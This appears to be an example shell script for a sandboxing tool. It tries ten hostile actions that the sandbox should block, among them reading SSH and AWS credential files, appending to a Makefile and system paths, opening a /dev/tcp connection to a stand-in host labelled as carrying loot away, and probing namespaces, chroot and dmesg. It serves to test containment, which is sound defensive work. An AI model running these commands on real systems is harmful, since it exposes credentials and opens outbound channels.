#!/bin/sh
# Ten things that a script from the internet might try; here they would do no harm if they worked. None of them does
# inside a sandbox, and the summary that follows at a terminal names each:  sandbox examples/evil.sh
#
# SPDX-License-Identifier: Apache-2.0

echo "1  reads the key of your other machines"
cat ~/.ssh/id_ed25519

echo "2  reads the password of your cloud"
cat ~/.aws/credentials

echo "3  plants something that runs when you work on this project"
echo '# planted' >>./Makefile

echo "4  plants something that runs for everybody"
echo '# planted' >>/etc/profile.d/planted.sh

echo "5  plants a program"
echo '# planted' >>/usr/bin/planted

echo "6  talks to a service of this machine"
bash -c 'exec 3<>/dev/tcp/127.0.0.1/22'

echo "7  carries the loot away"
bash -c 'exec 3<>/dev/tcp/192.0.2.1/443'

echo "8  makes namespaces, where holes of the kernel are found"
unshare --user true

echo "9  changes the root"
/usr/sbin/chroot / true

echo "10 reads what the kernel says about itself"
dmesg

exit 1
